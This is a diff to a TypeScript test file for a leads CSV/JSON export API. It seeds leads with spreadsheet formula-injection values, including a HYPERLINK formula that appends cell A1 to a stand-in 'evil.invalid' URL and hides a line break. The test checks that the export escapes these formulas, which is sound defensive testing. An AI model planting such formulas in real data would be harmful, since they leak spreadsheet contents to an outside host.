@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { beforeAll, describe, expect, it } from "vitest";
 import { revokeApiKey } from "@/lib/api-keys";
 import { asServiceRole } from "@/lib/db";
@@ -35,7 +36,12 @@ beforeAll(async () => {
   org = await createApiOrg();
   leadIds = await seedLeads(org.orgId, 130, (i) => ({
     name: i === 0 ? '=HYPERLINK("http://evil")' : `Person ${i}`,
-    company: i === 1 ? "Zebracorp Analytics" : undefined,
+    company:
+      i === 1
+        ? "Zebracorp Analytics"
+        : i === 2
+          ? '=HYPERLINK("http://evil.invalid/?"&A1,\n"Acme Tools")'
+          : undefined,
     email: i % 5 === 0 ? null : undefined,
   }));
 });
@@ -236,6 +242,10 @@ describe("leads", () => {
     expect(lines[0]).toMatch(/^id,name,title,company,email/);
     expect(lines.length).toBe(1 + 129);
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil"")"`);
+    // A line break after the formula does not slip it past the escaping.
+    const rows = Papa.parse<Record<string, string>>(csv.text, { header: true }).data;
+    const company = rows.find((r) => r.company?.includes("evil.invalid"))?.company;
+    expect(company).toBe(`'=HYPERLINK("http://evil.invalid/?"&A1,\n"Acme Tools")`);
     const json = await call("GET", "/leads/export?format=json&status=hot", org.keys.read);
     expect(Array.isArray(json.json)).toBe(true);
     expect(json.json.every((l: { status: string }) => l.status === "hot")).toBe(true);
